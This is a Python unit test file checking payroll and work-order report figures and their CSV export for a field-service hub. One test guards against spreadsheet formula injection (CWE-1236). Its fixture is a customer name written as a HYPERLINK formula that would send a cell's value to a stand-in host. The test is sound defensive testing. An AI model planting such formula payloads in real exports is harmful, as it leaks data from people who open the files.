"""The report figures from the export scenario, worked out by hand, and their CSV."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from decimal import Decimal

from hub.export.context import TechnicianSheet
from hub.export.reports.neutrality import NeutralityRow, neutrality_report
from hub.export.reports.overtime import OvertimeRow, overtime_and_exceptions
from hub.export.reports.table import report_hours, write_csv
from hub.export.reports.utilisation import UtilisationRow, utilisation
from hub.export.reports.work_orders import WorkOrderRow, customer_totals, work_order_costs
from hub.rules.timesheet import compute_timesheets
from hub.settings import PayrollSettings
from tests.unit.export import scenario

ALL = tuple(t.id for t in scenario.TECHNICIANS)
WEEK1, WEEK2 = date(2026, 3, 2), date(2026, 3, 9)


def test_utilisation_is_billable_over_worked_per_week_against_the_target():
    rows = list(utilisation(scenario.sheets(ALL), WEEK1, WEEK2, Decimal("0.80")))
    maria = {r.week_start: r for r in rows if r.technician_id == "T-100"}
    # four days of 9 h 10 min on billable work orders, Wednesday's warranty call not billable
    assert maria[WEEK1].billable_hours == Decimal("41.50")
    assert maria[WEEK1].worked_hours == Decimal("50.47")
    assert maria[WEEK1].utilisation == Decimal("0.8223") and maria[WEEK1].on_target
    team = [r for r in rows if r.technician_id == ""]
    assert [(r.week_start, r.team) for r in team] == [(WEEK1, "north"), (WEEK2, "north")]
    # the team's figure is its exact total rounded once, not a sum of rounded rows
    exact = sum(w.worked for s in scenario.sheets(ALL) for w in s.timesheet.weeks if w.start == WEEK1)
    assert team[0].worked_hours == report_hours(exact) == Decimal("170.63")


def test_work_order_time_cost_and_billable_value():
    rows = {r.work_order: r for r in work_order_costs(scenario.sheets(ALL), scenario.PERIOD.start,
                                                      scenario.PERIOD.end, scenario.WORK_ORDERS)}
    warranty = rows["WO-9"]
    assert (warranty.drive_hours, warranty.on_site_hours) == (Decimal("0.50"), Decimal("3.83"))
    assert warranty.cost == Decimal("169.00")  # 4 h 20 min at Maria's cost rate of 39.00
    assert warranty.billable_value == 0 and not warranty.billable
    assert rows["WO-7"].technicians == 2 and rows["WO-7"].billable_value > 0
    customers = {c.customer: c for c in customer_totals(rows.values())}
    assert customers[scenario.WORK_ORDERS["WO-9"].customer].cost == Decimal("169.00")


def test_overtime_and_exceptions_per_week_and_depot():
    rows = overtime_and_exceptions(scenario.sheets(ALL), WEEK1, WEEK2)
    week1 = next(r for r in rows if r.week_start == WEEK1)
    assert (week1.depot, week1.technicians, week1.technicians_with_overtime) == ("north", 4, 2)
    assert (week1.overtime_hours, week1.double_time_hours, week1.premium_hours) == (
        Decimal("15.47"), Decimal("0.50"), 1)
    assert week1.by_code == "ca_meal_late 1"


def test_the_neutrality_report_of_quarter_hour_rounding():
    payroll = PayrollSettings(rounding_minutes=15)
    rows = {t.id: t.row() for t in scenario.TECHNICIANS}
    sheets = [TechnicianSheet(rows[s.tech], s, {})
              for s in compute_timesheets(scenario.events(), scenario.profiles(payroll))]
    report = list(neutrality_report(sheets, WEEK1, WEEK2 + timedelta(days=6)))
    maria = report[0]
    # Tuesday out 17:41 -> 17:45 (+4 paid minutes), Thursday out 17:47 -> 17:45 (-2)
    assert (maria.punches_moved, maria.days_in_employee_favour, maria.days_in_employer_favour,
            maria.net_minutes, maria.employee_share) == (2, 1, 1, Decimal("2.00"), Decimal("0.5"))
    company = report[-1]
    assert company.technician_id == "" and company.punches_moved == sum(r.punches_moved for r in report[:-1])
    assert company.net_minutes == sum(r.net_minutes for r in report[:-1])
    # Over Tuesday alone: the day rounding paid Maria 4 minutes more.
    tuesday = next(iter(neutrality_report(sheets, WEEK1 + timedelta(days=1), WEEK1 + timedelta(days=1))))
    assert (tuesday.punches_moved, tuesday.net_minutes, tuesday.employee_share) == (1, Decimal("4.00"), 1)


def test_each_report_writes_a_csv_with_a_header_row():
    sheets = scenario.sheets(ALL)
    for rows, row_type in (
        (utilisation(sheets, WEEK1, WEEK2, Decimal("0.75")), UtilisationRow),
        (work_order_costs(sheets, scenario.PERIOD.start, scenario.PERIOD.end, scenario.WORK_ORDERS), WorkOrderRow),
        (overtime_and_exceptions(sheets, WEEK1, WEEK2), OvertimeRow),
        (neutrality_report(sheets, WEEK1, WEEK2), NeutralityRow),
    ):
        out = io.StringIO(newline="")
        count = write_csv(rows, out, row_type)
        read = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
        assert len(read) == count > 0
        if row_type is WorkOrderRow:
            customers = {r["work_order"]: r["customer"] for r in read}
    assert read[-1]["name"] == "all technicians"
    # issue 17 #7 (CWE-1236): a customer named as a formula is shown as text
    assert customers["WO-9"] == """'=HYPERLINK("http://x"&A1,"Click")"""
    assert customers["WO-12"] == "'+Harbor Foods, Inc." and customers["WO-7"] == "Lakeview Dental"


def test_report_csvs_neutralise_text_but_not_negative_numbers():
    from dataclasses import dataclass

    @dataclass
    class Row:
        name: str
        net_minutes: Decimal

    out = io.StringIO(newline="")
    write_csv([Row("-1 Chen", Decimal("-4")), Row("@x\tb", Decimal("2"))], out, Row)
    assert out.getvalue().splitlines()[1:] == ["'-1 Chen,-4", "'@x\tb,2"]
